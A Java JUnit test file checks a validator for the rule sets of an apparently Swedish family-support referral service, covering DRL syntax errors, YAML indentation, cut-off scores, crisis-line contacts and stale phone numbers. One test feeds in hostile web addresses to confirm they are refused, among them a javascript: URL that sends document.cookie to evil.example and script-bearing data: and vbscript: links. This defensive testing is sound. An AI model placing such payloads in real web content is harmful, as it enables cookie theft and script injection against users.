package se.lotsen.policy.validation;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import se.lotsen.policy.RuleSetFiles;
import se.lotsen.policy.RuleSets;

/** What a policy owner sees for typical mistakes: the file, the line, and words they use, in Swedish and English. */
class RuleSetValidatorTest {
    private static ValidationReport validate(RuleSetFiles files) {
        return RuleSetValidator.validate(files, RuleSets.QUICK).report();
    }

    @Test
    void aDrlErrorIsReportedWithItsFileAndLine() {
        ValidationReport report = validate(RuleSets.edited("rules/epds.drl",
                drl -> drl.replace("$e : EpdsFact( positive, !duringPregnancy, !wellAbove )", "$e : EpdsFact( postive )")));

        assertThat(report.valid()).isFalse();
        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("rules/epds.drl");
            assertThat(p.line()).isEqualTo(18);
            assertThat(p.message()).contains("postive").contains("positive");
        });
        assertThat(report.analysis()).isNull();
    }

    @Test
    void aYamlIndentationMistakeSaysWhatToCheckAtItsLine() {
        ValidationReport report = validate(RuleSets.edited("scenarios/safeguarding.yaml",
                yaml -> yaml.replace("    why: \"Sömn, pengar och bråk", "  why: \"Sömn, pengar och bråk")));

        assertThat(report.valid()).isFalse();
        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("scenarios/safeguarding.yaml");
            assertThat(p.line()).isBetween(3, 4);
            assertThat(p.message()).contains("indentation");
            assertThat(p.sv()).contains("indragen");
        });
        assertThat(report.scenarios()).isNull();
    }

    /** The line (from 1) of the first line of the default catalog holding {@code text}. */
    private static int lineOf(String text) {
        String[] lines = RuleSetFiles.readDefault().text("catalog/services.yaml").split("\n", -1);
        for (int i = 0; i < lines.length; i++) {
            if (lines[i].contains(text)) {
                return i + 1;
            }
        }
        throw new IllegalStateException(text + " is not in the default catalog");
    }

    @Test
    void aWebAddressThatIsNotHttpsHttpTelOrMailtoIsRefusedAtItsLine() {
        for (String web : new String[] {"javascript:fetch('//evil.example?'+document.cookie)", "JavaScript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "java\\tscript:alert(1)", "//evil.example", "vbscript:x"}) {
            ValidationReport report = validate(RuleSets.edited("catalog/services.yaml",
                    yaml -> yaml.replaceFirst("web: \"https://www.1177.se\"", java.util.regex.Matcher.quoteReplacement(
                            "web: \"" + web + "\""))));

            assertThat(report.valid()).as(web).isFalse();
            assertThat(report.errors()).as(web).singleElement().satisfies(p -> {
                assertThat(p.path()).isEqualTo("catalog/services.yaml");
                // The tab is written \t in the file, so that address is found at its service's id instead.
                assertThat(p.line()).isEqualTo(lineOf(web.contains("\\") ? "- id: BVC_NURSE" : "web: \"https://www.1177.se\""));
                assertThat(p.message()).contains("web", "https:", "http:", "tel:", "mailto:");
                assertThat(p.sv()).contains("webbadress");
            });
        }
    }

    @Test
    void aKeyGivenTwiceIsRefused() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace("elevatedFrom: 3", "elevatedFrom: 3\n  elevatedFrom: 9")));

        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("ruleset.yaml");
            assertThat(p.message()).contains("elevatedFrom").contains("twice");
        });
    }

    @Test
    void aScenarioMayNameAStepByItsServiceAlone() {
        ValidationReport report = validate(RuleSets.edited("scenarios/relationship.yaml", yaml -> yaml.replace(
                "      includes:\n        - { service: CENTRE_SOCIAL_WORKER, urgency: WITHIN_WEEK, tier: INDICATED }",
                "      includes: [CENTRE_SOCIAL_WORKER, VIOLENCE_SUPPORT]")));

        assertThat(report.errors()).isEmpty();
        assertThat(report.scenarios().failures()).isEmpty();
    }

    @Test
    void aChangedCutOffFailsTheScenariosThatGuardIt() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace("cutoff: \"12/13\" }\n    - { code: en-ZA",
                "cutoff: \"11/12\" }\n    - { code: en-ZA")));

        assertThat(report.valid()).isFalse();
        assertThat(report.scenarios().failures()).extracting(ValidationReport.Failure::name).contains("english-form-below-its-cutoff");
    }

    @Test
    void aCutOffNotWrittenAsOnTheSourcePageIsRefused() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace("cutoff: \"9/10\" }\n    - { code: fa-AF",
                "cutoff: \"10\" }\n    - { code: fa-AF")));

        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("ruleset.yaml");
            assertThat(p.line()).isEqualTo(21);
            assertThat(p.message()).contains("\"a/b\"");
        });
    }

    @Test
    void aRiskWeightWithoutAReasonIsRefused() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replaceAll(
                "UNEMPLOYMENT: \\{ weight: 1, why: \"[^\"]*\" }", "UNEMPLOYMENT: { weight: 1 }")));

        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.line()).isGreaterThan(30);
            assertThat(p.message()).contains("UNEMPLOYMENT").contains("why");
        });
    }

    @Test
    void aTriggerThatNamesALineThatDoesNotExistIsRefused() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace(
                "contacts: [MIND_SJALVMORDSLINJEN, HEALTHCARE_1177, EMERGENCY_112]", "contacts: [MIND, HEALTHCARE_1177]")));

        assertThat(report.valid()).isFalse();
        assertThat(report.errors()).anySatisfy(p -> assertThat(p.message()).contains("SELF_HARM").contains("MIND"));
    }

    @Test
    void anUnvalidatedCutOffAboveTheFallbackFormsIsRefused() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace(
                "unvalidatedPositiveFrom: 10", "unvalidatedPositiveFrom: 14")));

        assertThat(report.valid()).isFalse();
        assertThat(report.errors()).anySatisfy(p -> assertThat(p.message()).contains("unvalidatedPositiveFrom"));
    }

    @Test
    void aNumberCheckedMoreThanAYearAgoIsAWarningNotAnError() {
        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replaceFirst(
                "(id: KVINNOFRIDSLINJEN(?s:.*?))checked: 2026-11-24", "$1checked: 2024-01-01")));

        assertThat(report.valid()).isTrue();
        assertThat(report.warnings()).anySatisfy(p -> assertThat(p.message()).contains("KVINNOFRIDSLINJEN").contains("more than a year"));
    }

    @Test
    void aRuleWithoutAScenarioFailsValidation() {
        ValidationReport report = validate(RuleSets.edited("rules/interpreter.drl", drl -> drl + """

                rule "interpreter-new-rule-nobody-tried"
                when
                    Family( language == "ti" )
                then
                    out.note( drools.getRule().getName(), "tigrinja", "Tigrinya" );
                end
                """));

        assertThat(report.valid()).isFalse();
        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("rules/interpreter.drl");
            assertThat(p.message()).contains("interpreter-new-rule-nobody-tried").contains("no scenario");
        });
    }

    @Test
    void theSameRuleNameInADrlFileAndTheTableIsRefused() {
        ValidationReport report = validate(RuleSets.edited("rules/interpreter.drl", drl -> drl.replace(
                "rule \"interpreter-language-barrier\"", "rule \"route-sleep-nurse\"")));

        assertThat(report.errors()).anySatisfy(p -> assertThat(p.message()).contains("route-sleep-nurse").contains("already used"));
    }

    @Test
    void theDefaultAnalysisHasNothingToActOn() {
        ValidationReport report = validate(RuleSets.DEFAULT);

        assertThat(report.valid()).as(report.toText()).isTrue();
        assertThat(report.analysis().unroutedNeeds()).isEmpty();
        assertThat(report.analysis().unreachedServices()).isEmpty();
        assertThat(report.analysis().neverFiredRules()).isEmpty();
        assertThat(report.analysis().overlaps()).isEmpty();
        assertThat(report.detected()).singleElement().satisfies(d -> assertThat(d.path()).isEqualTo("tables/routing.xlsx"));
    }
}
